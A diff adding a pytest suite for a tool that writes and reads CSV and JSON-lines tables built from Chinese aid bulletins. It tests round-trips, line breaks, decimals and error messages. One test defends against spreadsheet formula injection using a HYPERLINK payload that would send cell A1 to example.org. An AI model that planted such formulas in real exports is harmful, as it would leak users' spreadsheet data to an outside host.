@@ -1,0 +1,151 @@
+"""What the tables of a build promise: nothing is lost on the way to a file and back, and spreadsheets open them."""
+
+import csv
+import json
+from dataclasses import replace
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from kg.errors import InputError
+from kg.model import Bound, LeftOut, Records, Role, Section
+from kg.tables import read_records, write_tables, write_texts
+from miniature import bulletin, hostile, miniature
+
+ROOT = Path(__file__).parents[1]
+
+
+def write(records: Records, folder: Path) -> Path:
+    write_tables(records, folder / "tables")
+    write_texts(records, folder / "texts")
+    return folder
+
+
+def with_value(value: Decimal, upper: Decimal | None = None) -> Records:
+    records = miniature()
+    first, *rest = records.actions
+    odd = replace(first.measures[0], value=value, upper=upper, bound=Bound.RANGE, role=Role.PART, total="measure-1")
+    return replace(records, actions=(replace(first, measures=(odd,)), *rest))
+
+
+def rows(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def test_what_the_founding_bulletin_states_comes_back_as_it_was_written(tmp_path: Path) -> None:
+    from kg.extract.pipeline import extract_records
+    from kg.read import read_inputs
+
+    bulletins, _ = read_inputs([ROOT / "data" / "bulletins"])
+    records = extract_records(bulletins)
+    assert records.actions
+    assert records.left_out
+    assert records.bulletins[0].articles[0].sections
+    assert read_records(write(records, tmp_path)) == records
+
+
+@pytest.mark.parametrize("records", [miniature(), hostile(), Records()], ids=["miniature", "hostile", "empty"])
+def test_records_come_back_as_they_were_written(records: Records, tmp_path: Path) -> None:
+    assert read_records(write(records, tmp_path)) == records
+
+
+def test_line_breaks_of_any_kind_within_a_text_break_no_table(tmp_path: Path) -> None:
+    records = miniature()
+    odd = "衢江\r\n投入\x85资金\u2028534\u2029万元\x0b\x1c\t"
+    article = replace(bulletin().articles[0], sections=(Section("一是", odd, 1, 0, 9),))
+    source = replace(records.bulletins[0], text=odd, title=odd, articles=(article,))
+    first = replace(records.actions[0], about=odd)
+    left_out = LeftOut(replace(first.evidence[0], quote=odd, article=None), "date")
+    records = Records((source,), records.entities, (first, *records.actions[1:]), (left_out,))
+    folder = write(records, tmp_path)
+    assert read_records(folder) == records
+    assert len((folder / "tables" / "left_out.jsonl").read_text(encoding="utf-8").splitlines()) == 1
+    assert rows(folder / "tables" / "left_out.csv")[0]["quote"] == odd
+
+
+@settings(deadline=None)  # it writes files
+@given(st.decimals(allow_nan=False, allow_infinity=False, places=None, min_value=0, max_value=10**15))
+def test_a_figure_keeps_every_digit(tmp_path_factory: pytest.TempPathFactory, value: Decimal) -> None:
+    records = with_value(value, value + Decimal("0.10000000000000000000001"))
+    assert read_records(write(records, tmp_path_factory.mktemp("figure"))) == records
+
+
+def test_a_plain_figure_is_a_number_in_json_lines(tmp_path: Path) -> None:
+    write_tables(with_value(Decimal("10.486"), Decimal("2.0E+8")), tmp_path)
+    measures = [json.loads(line) for line in (tmp_path / "measures.jsonl").read_text(encoding="utf-8").splitlines()]
+    odd = next(m for m in measures if m["bound"] == "range")
+    assert (odd["value"], odd["max"], odd["role"]) == (10.486, 200000000, "part")
+
+
+def test_measures_and_evidence_name_the_record_they_belong_to(tmp_path: Path) -> None:
+    write_tables(miniature(), tmp_path)
+    actions = {row["id"] for row in rows(tmp_path / "actions.csv")}
+    assert {row["action"] for row in rows(tmp_path / "measures.csv")} <= actions
+    evidence = rows(tmp_path / "evidence.csv")
+    text = bulletin().text
+    assert actions <= {row["of"] for row in evidence}
+    assert all(text[int(row["start"]) : int(row["end"])] == row["quote"] for row in evidence)
+
+
+def test_a_spreadsheet_shows_an_action_in_one_line(tmp_path: Path) -> None:
+    write_tables(miniature(), tmp_path)
+    data = (tmp_path / "actions.csv").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbfid,kind,provider,")
+    assert data.count(b"\r\n") == data.count(b"\n") == len(miniature().actions) + 1
+    row = next(row for row in rows(tmp_path / "actions.csv") if row["kind"] == "funding")
+    assert (row["provider"], row["recipient"], row["recipient_id"], row["measures"]) == ("衢江区", "平武县", "place-510727", "534万元")
+    assert row["quote"] == "落实社会帮扶资金534万元"
+
+
+def test_no_cell_runs_as_a_formula(tmp_path: Path) -> None:
+    records = miniature()
+    evil = '=HYPERLINK("http://example.org/?"&A1,"534万元")'
+    write_tables(replace(records, actions=(replace(records.actions[0], about=evil),)), tmp_path)
+    assert rows(tmp_path / "actions.csv")[0]["about"] == f"'{evil}"
+
+
+def test_a_folder_that_is_no_build_is_named(tmp_path: Path) -> None:
+    with pytest.raises(InputError, match=r"holds no build: make one with kg build"):
+        read_records(tmp_path)
+    with pytest.raises(InputError, match=r"nowhere does not exist: make one with kg build"):
+        read_records(tmp_path / "nowhere")
+
+
+@pytest.mark.parametrize(
+    ("table", "broken", "said"),
+    [
+        ("actions", '{"id": "action-1", ', r"actions\.jsonl, line 8 is broken \(Expecting property name"),
+        ("actions", "[]", r"actions\.jsonl, line 8 is broken"),
+        ("entities", '{"id": "place-1"}', r"entities\.jsonl, line 8 has no 'name'"),
+        ("left_out", "\udcff", r"left_out\.jsonl, line 1 is broken"),
+        ("bulletins", '{"id": "elsewhere", "blocks": []', r"bulletins\.jsonl, line 2 is broken"),
+    ],
+)
+def test_a_broken_line_is_named_with_its_file_and_number(table: str, broken: str, said: str, tmp_path: Path) -> None:
+    folder = write(miniature(), tmp_path)
+    with (folder / "tables" / f"{table}.jsonl").open("ab") as file:
+        file.write(broken.encode(errors="surrogateescape") + b"\n")
+    with pytest.raises(InputError, match=said + r"(?s:.*): build it again with kg build"):
+        read_records(folder)
+
+
+def test_a_party_that_no_table_knows_is_named(tmp_path: Path) -> None:
+    folder = write(miniature(), tmp_path)
+    entities = folder / "tables" / "entities.jsonl"
+    entities.write_text("".join(line for line in entities.read_text("utf-8").splitlines(keepends=True) if "place-510727" not in line), "utf-8")
+    with pytest.raises(InputError, match=r"actions\.jsonl, line \d is broken \(place-510727 is not among the entities\)"):
+        read_records(folder)
+
+
+def test_a_missing_table_or_text_is_named(tmp_path: Path) -> None:
+    folder = write(miniature(), tmp_path)
+    (folder / "texts" / "sichuan-2019-2.txt").unlink()
+    with pytest.raises(InputError, match=r"sichuan-2019-2\.txt cannot be read .*: build it again"):
+        read_records(folder)
+    (folder / "tables" / "bulletins.jsonl").unlink()
+    with pytest.raises(InputError, match=r"bulletins\.jsonl cannot be read .*: build it again"):
+        read_records(folder)
